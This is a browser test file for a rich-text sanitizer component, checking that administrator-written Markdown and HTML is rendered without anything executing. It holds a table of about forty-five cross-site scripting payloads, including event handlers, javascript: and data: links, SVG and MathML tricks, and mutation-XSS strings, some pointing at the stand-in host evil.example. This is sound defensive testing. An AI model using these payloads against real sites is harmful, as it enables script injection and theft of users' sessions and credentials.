import { expect } from "chai";
import { defineElement } from "../../src/elements/bridge/define-element.js";
import type { ElementDefinition } from "../../src/elements/definition/definition.js";
import { RichText } from "../../src/ui/content/rich-text.js";
import { expectAccessible } from "../support/axe.js";
import { mount, nextEvent, waitFor } from "../support/dom.js";
import { openGateway } from "../support/gateway.js";
import { allowConsoleErrors, allowPolicyViolations } from "../support/guard.js";

interface ProbeProps {
  readonly text?: string;
  readonly format?: "markdown" | "html";
}

const definition: ElementDefinition = {
  tag: "gw-probe-text",
  module: "probe-text",
  summary: "",
  attributes: { format: { kind: "choice", property: "format", values: ["markdown", "html"], doc: "" } },
  properties: { text: { type: "string", doc: "" } },
  events: {},
  slots: {},
  parts: [],
};
defineElement<ProbeProps>(definition, () =>
  Promise.resolve({
    View: ({ text = "", format = "markdown" }: ProbeProps) => (
      <RichText text={text} format={format} title="What was written" />
    ),
  }),
);

type Probe = HTMLElement & { text: string; format: "markdown" | "html" };

async function show(text: string, format: "markdown" | "html" = "markdown"): Promise<ShadowRoot> {
  const gateway = await openGateway();
  const probe = mount(document.createElement("gw-probe-text") as Probe);
  probe.setAttribute("base-url", gateway.base);
  probe.setAttribute("locale", "en");
  probe.format = format;
  // The first line tells that the text after it was drawn; it comes all at once.
  probe.text = format === "html" ? `<p>first</p>${text}` : `first\n\n${text}`;
  const root = probe.shadowRoot;
  if (!root) throw new Error("no shadow root");
  const shown = () => root.querySelector(".rich-text, .rich-plain")?.textContent.includes("first");
  await waitFor(shown, "the text");
  return root;
}

/** What ran although it must not. */
const ran: string[] = [];
Object.assign(window, { gwRan: (what: string) => ran.push(what) });

/** Texts that try to act, each in its own way; `gwRan` is what they would call. */
const attacks: Readonly<Record<string, string>> = {
  "a script": "<script>gwRan('script')</script>",
  "a script in capitals, broken": "<SCRIPT SRC=//evil.example></SCRIPT><scr<script>ipt>gwRan(1)</script>",
  "an error handler": '<img src="/no-such-picture" onerror="gwRan(\'onerror\')">',
  "a handler without quotes": "<img src=/no-such-picture onerror=gwRan(1)>",
  "a handler behind a slash": "<svg/onload=gwRan(1)>",
  "focus that nobody asked for": '<a href="#" autofocus onfocus="gwRan(1)" tabindex=1>x</a>',
  "a toggle": "<details open ontoggle=gwRan(1)><summary>x</summary></details>",
  "an animation": '<p style="animation-name:gw-rise" onanimationstart="gwRan(1)">x</p>',
  "a javascript: link": '<a href="javascript:gwRan(1)">x</a>',
  "a javascript: link with a tab in it": '<a href="java\tscript:gwRan(1)">x</a>',
  "a javascript: link in entities": '<a href="&#106;avascript&colon;gwRan(1)">x</a>',
  "a javascript: link in Markdown": "[x](javascript:gwRan(1))",
  "a javascript: reference in Markdown": "[x][1]\n\n[1]: javascript:gwRan(1)",
  "an angle-bracket link in Markdown": "<javascript:gwRan(1)>",
  "a vbscript: link": '<a href="vbscript:gwRan(1)">x</a>',
  "a data: link": '<a href="data:text/html,<script>gwRan(1)</script>">x</a>',
  "a data: picture": '<img src="data:image/svg+xml,<svg onload=gwRan(1)>">',
  "a data: picture in capitals": '<img src=" DATA:image/svg+xml;base64,PHN2Zy8+">',
  "a blob: link": '<a href="blob:https://evil.example/1">x</a>',
  "an SVG with a script": "<svg><script>gwRan(1)</script></svg>",
  "an SVG with an animated link":
    '<svg><a><animate attributeName="href" to="javascript:gwRan(1)"/></a></svg>',
  "a use of another SVG": '<svg><use href="data:image/svg+xml,<svg id=x onload=gwRan(1)/>#x"/></svg>',
  MathML: '<math><maction actiontype="statusline" xlink:href="javascript:gwRan(1)">x</maction></math>',
  "a style sheet": "<style>@import url(//evil.example);.gw{display:none}</style>",
  "a style": '<p style="position:fixed;inset:0;background:url(//evil.example)">x</p>',
  "a link to a style sheet": '<link rel="stylesheet" href="//evil.example">',
  "a base": '<base href="//evil.example/">',
  "a refresh": '<meta http-equiv="refresh" content="0;url=javascript:gwRan(1)">',
  "a frame":
    '<iframe src="javascript:gwRan(1)"></iframe><iframe srcdoc="<script>parent.gwRan(1)</script>"></iframe>',
  "an object": '<object data="javascript:gwRan(1)"></object><embed src="javascript:gwRan(1)">',
  "a form":
    '<form action="//evil.example"><input name="password"><button formaction="javascript:gwRan(1)">x</button></form>',
  "form controls outside of a form":
    "<input autofocus onfocus=gwRan(1)><textarea></textarea><select></select>",
  "a template": "<template><script>gwRan(1)</script></template>",
  "a slot of ours": '<slot name="header"></slot><p slot="gw-login-form">x</p>',
  "an element of ours": '<gw-console routing="memory"></gw-console>',
  "names that hide others": '<img name="body" id="location"><a id="gwRan" name="cookie">x</a>',
  "a picture that is a set": '<img srcset="//evil.example 1x" src="/no-such-picture">',
  "a ping": '<a href="https://a.example" ping="//evil.example">x</a>',
  media: '<video src="//evil.example" onerror=gwRan(1)></video><audio src=x onerror=gwRan(1)></audio>',
  "mutation through noscript": '<noscript><p title="</noscript><img src=/no-such-picture onerror=gwRan(1)>">',
  "mutation through style in MathML":
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=gwRan(1)&gt;">',
  "mutation through foreign content":
    '<svg></p><style><a id="</style><img src=/no-such-picture onerror=gwRan(1)>">',
  "mutation through nested forms":
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=gwRan(1)>",
  "mutation through a comment": "<!--><img src=/no-such-picture onerror=gwRan(1)>-->",
  "mutation through select and template":
    '<select><template><style><!--</style><a rel="--></style></template></select><img id=x src onerror=gwRan(1)>">',
};

/** What may stand there in the end, whoever wrote it. */
const harmlessTag =
  /^(a|abbr|b|blockquote|br|caption|center|code|col|colgroup|dd|del|details|div|dl|dt|em|figcaption|figure|h[1-6]|hr|i|img|ins|kbd|li|mark|ol|p|pre|q|s|samp|small|span|strong|sub|summary|sup|table|tbody|td|tfoot|th|thead|time|tr|u|ul|var)$/;
const harmlessAttribute =
  /^(align|alt|cite|colspan|crossorigin|datetime|dir|height|href|lang|loading|open|referrerpolicy|rel|reversed|rowspan|scope|span|src|start|target|title|width)$/;

function expectHarmless(root: ShadowRoot): void {
  const all = [...(root.querySelector(".rich-text")?.querySelectorAll("*") ?? [])];
  expect(all.length).to.be.greaterThan(0);
  for (const element of all) {
    expect(element.namespaceURI).to.equal("http://www.w3.org/1999/xhtml");
    expect(element.localName).to.match(harmlessTag);
    for (const { name, value } of element.attributes) {
      expect(name).to.match(harmlessAttribute);
      if (name !== "href" && name !== "src" && name !== "cite") continue;
      if (element.localName === "img" && value.startsWith("data:image/png;base64,")) continue;
      expect(new URL(value, "https://page.example/").protocol).to.match(/^(https?|mailto|tel):$/);
    }
    if (element.localName !== "a" || !element.hasAttribute("href")) continue;
    expect(element.getAttribute("rel")).to.include("noopener");
    expect(element.getAttribute("target")).to.equal("_blank");
  }
}

describe("text that an administrator wrote", () => {
  beforeEach(() => {
    ran.length = 0;
  });

  for (const [what, text] of Object.entries(attacks))
    for (const format of ["markdown", "html"] as const)
      it(`lets nothing of ${what} through (${format})`, async () => {
        const root = await show(text, format);
        expectHarmless(root);
        // What would run would do so in a later task: a picture that fails, a frame that loads.
        await new Promise((resolve) => requestAnimationFrame(() => setTimeout(resolve)));
        expect(ran).to.deep.equal([]);
      });

  it("keeps a raster picture that stands in the text itself", async () => {
    // The page of this test allows no such pictures, as careful pages do.
    allowPolicyViolations();
    const refused = nextEvent(document, "securitypolicyviolation");
    const pixel = "data:image/png;base64,iVBORw0KGgo=";
    const root = await show(`![pixel](${pixel}) [link](${pixel})`);
    expectHarmless(root);
    expect(root.querySelector("a")?.hasAttribute("href")).to.equal(false);
    expect(((await refused) as unknown as SecurityPolicyViolationEvent).blockedURI).to.equal("data");
    await waitFor(() => root.querySelector("span")?.textContent === "pixel", "its text in its place");
  });

  it("leaves the word style alone where it is text", async () => {
    const root = await show('<p title="my style=plain" style="color:red">a style=b &lt;style></p>', "html");
    const line = root.querySelectorAll(".rich-text p")[1];
    expect(line?.outerHTML).to.equal('<p title="my style=plain">a style=b &lt;style&gt;</p>');
  });

  it("lets a strict policy see no handler, so that it has nothing to report", async () => {
    // The guard of these tests fails on a report.
    const root = await show("<b onclick='x()' ONFOCUS=x() title=on>bold</b> on=off", "html");
    expect(root.querySelector(".rich-text b")?.outerHTML).to.equal('<b title="on">bold</b>');
  });

  it("keeps what people write: headings, lists, tables, pictures, links", async () => {
    const root = await show(
      "# News\n\n- one\n- **two**\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n[link](https://a.example/?x=1&y=2) ![logo](/logo.png) <center>mid</center> `code`",
    );
    for (const tag of ["h1", "ul > li", "strong", "table td", "a", "img", "center", "code"])
      expect(root.querySelector(`.rich-text ${tag}`), tag).not.to.equal(null);
    const link = root.querySelector("a");
    expect(link?.getAttribute("href")).to.equal("https://a.example/?x=1&y=2");
    expect(link?.getAttribute("rel")).to.include("noopener");
    await expectAccessible(root.host);
  });

  it("takes a whole text that is an address for a page, in a sandbox", async () => {
    // The page of this test allows no frames, as careful pages do.
    allowPolicyViolations();
    const refused = nextEvent(document, "securitypolicyviolation");
    const gateway = await openGateway();
    const probe = mount(document.createElement("gw-probe-text") as Probe);
    probe.setAttribute("base-url", gateway.base);
    probe.text = " https://pages.example/home?a=1 ";
    const frame = await waitFor(() => probe.shadowRoot?.querySelector("iframe"));
    expect(frame.src).to.equal("https://pages.example/home?a=1");
    expect(frame.title).to.equal("What was written");
    expect(frame.sandbox.contains("allow-same-origin")).to.equal(true);
    expect(frame.sandbox.contains("allow-top-navigation")).to.equal(false);
    await refused;
  });

  it("takes a text that only begins with an address for a text", async () => {
    const root = await show("https://pages.example is where we are.");
    expect(root.querySelector("iframe")).to.equal(null);
    expect(root.querySelector("a")?.href).to.equal("https://pages.example/");
  });

  it("never frames a page of our own origin or the gateway's, and links to it outside of the API", async () => {
    // The page of this test allows no calls to this gateway.
    allowPolicyViolations();
    allowConsoleErrors(/no answer from https:\/\/gw\.example/);
    for (const [address, href] of [
      ["https://gw.example/welcome", "https://gw.example/welcome"],
      ["https://gw.example:443/gateway/api/user/token", undefined],
    ] as const) {
      const probe = mount(document.createElement("gw-probe-text") as Probe);
      probe.setAttribute("base-url", "https://gw.example/gateway");
      probe.text = address;
      const link = await waitFor(() => probe.shadowRoot?.querySelector<HTMLElement>(".rich-text a"));
      expect(link.getAttribute("href") ?? undefined).to.equal(href);
      expect(probe.shadowRoot?.querySelector("iframe")).to.equal(null);
    }
  });

  it("draws what is nested without end, cleaned or as it was written", async () => {
    for (const [what, text] of Object.entries({
      quotes: ">",
      lists: "- ",
      blocks: "<div>",
      bold: "<b><i>",
    })) {
      const root = await show(`${text.repeat(5000)}last`);
      expect(root.textContent, what).to.include("last");
      root.host.remove();
    }
  });

  it("shows what would keep the browser busy as it was written", async () => {
    const texts = {
      underscores: "_a".repeat(60_000),
      addresses: "a.".repeat(40_000) + "@",
    };
    for (const [what, text] of Object.entries(texts)) {
      const gateway = await openGateway();
      const probe = mount(document.createElement("gw-probe-text") as Probe);
      probe.setAttribute("base-url", gateway.base);
      probe.text = text;
      const plain = await waitFor(() => probe.shadowRoot?.querySelector(".rich-plain"), what);
      expect(plain.textContent.startsWith(text.slice(0, 100)), what).to.equal(true);
      expect(plain.textContent.length, what).to.be.at.most(100_000);
      // The next text is read again.
      probe.text = "**next**";
      await waitFor(() => probe.shadowRoot?.querySelector(".rich-text strong"), what);
    }
  });

  it("reads HTML at once, however many tags are left open", async () => {
    for (const part of ["<a", '<a "', "<a '", '<a b="c']) {
      const root = await show(part.repeat(50_000), "html");
      root.host.remove();
    }
  });
});
